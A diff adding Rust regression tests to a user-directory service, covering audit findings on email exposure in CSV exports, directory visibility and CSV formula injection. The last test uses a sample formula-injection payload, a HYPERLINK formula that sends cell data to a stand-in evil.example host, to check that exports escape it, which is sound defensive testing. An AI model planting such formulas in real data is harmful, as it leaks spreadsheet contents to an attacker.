@@ -563,3 +563,64 @@ async fn nobody_deletes_their_own_account() {
     app.delete("/api/v1/users/me", &manager).await.expect(403);
     assert_eq!(app.count("SELECT count(*) FROM users WHERE username IN ('admin', 'manager')").await, 2);
 }
+
+/// (login, email) rows of `/data/users?format=csv` as `token` sees them.
+async fn directory(app: &TestApp, token: &str) -> Vec<(String, String)> {
+    let csv_text = app.get("/data/users?format=csv", token).await.expect(200).text;
+    let mut rd = csv::Reader::from_reader(csv_text.as_bytes());
+    rd.records().map(|r| r.expect("row")).map(|r| (r[1].to_string(), r[4].to_string())).collect()
+}
+
+/// Finding 7: one directory rule for every front end. By default an
+/// ordinary user sees the people they share a project with, without their
+/// emails. On `facfb9a` any caller (any API key) got every account's name
+/// and email from `GET /data/users?format=csv`.
+#[tokio::test]
+async fn ordinary_users_see_only_their_collaborators() {
+    let app = spawn_app().await;
+    let alice = app.user("alice").await;
+    app.create_user("bob", json!({})).await;
+    app.create_user("carol", json!({})).await;
+    app.post("/api/v1/projects", &alice, json!({"id": "P", "name": "P"})).await.expect(201);
+    app.put("/api/v1/projects/P/members/bob", &alice, json!({"level": "member"})).await.expect(200);
+    let seen = directory(&app, &alice).await;
+    assert_eq!(
+        seen,
+        [("alice".to_string(), "alice@example.org".to_string()), ("bob".to_string(), String::new())],
+        "what an ordinary user sees of the directory"
+    );
+    let members = app.get("/api/v1/projects/P/members", &alice).await.expect(200).json();
+    let bob = members["items"].as_array().expect("items").iter().find(|m| m["username"] == "bob").expect("bob").clone();
+    assert_eq!(bob["email"], "");
+    let xnat = app.get("/data/projects/P/users?format=json", &alice).await.expect(200).text;
+    assert!(!xnat.contains("bob@example.org"), "{xnat}");
+    // USER_MANAGEMENT sees everyone with emails.
+    let all = directory(&app, &app.admin_token).await;
+    assert_eq!(all.len(), 4);
+    assert!(all.contains(&("carol".to_string(), "carol@example.org".to_string())));
+}
+
+/// XNAT's own directory (everyone, with emails) is one setting away.
+#[tokio::test]
+async fn directory_visibility_is_one_setting() {
+    let open = spawn_app_with(|s| s.directory.visibility = registrar::config::Visibility::AllWithEmail).await;
+    let dave = open.user("dave").await;
+    open.create_user("erin", json!({})).await;
+    assert!(directory(&open, &dave).await.contains(&("erin".to_string(), "erin@example.org".to_string())));
+}
+
+/// Finding 9: CSV exports neutralise cells a spreadsheet would run as a
+/// formula. On `facfb9a` a first name of `=HYPERLINK(...)` came out as a
+/// formula cell of `/data/users?format=csv`.
+#[tokio::test]
+async fn csv_cells_are_never_formulas() {
+    let app = spawn_app().await;
+    let t = app.user("mallory").await;
+    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")";
+    app.patch("/api/v1/users/me", &t, json!({"first_name": evil, "last_name": "+1-2"})).await.expect(200);
+    let csv_text = app.get("/data/users?format=csv", &app.admin_token).await.expect(200).text;
+    let mut rd = csv::Reader::from_reader(csv_text.as_bytes());
+    let row = rd.records().map(|r| r.expect("row")).find(|r| &r[1] == "mallory").expect("mallory");
+    assert_eq!(&row[2], format!("'{evil}"), "a formula cell: {csv_text}");
+    assert_eq!(&row[3], "'+1-2");
+}
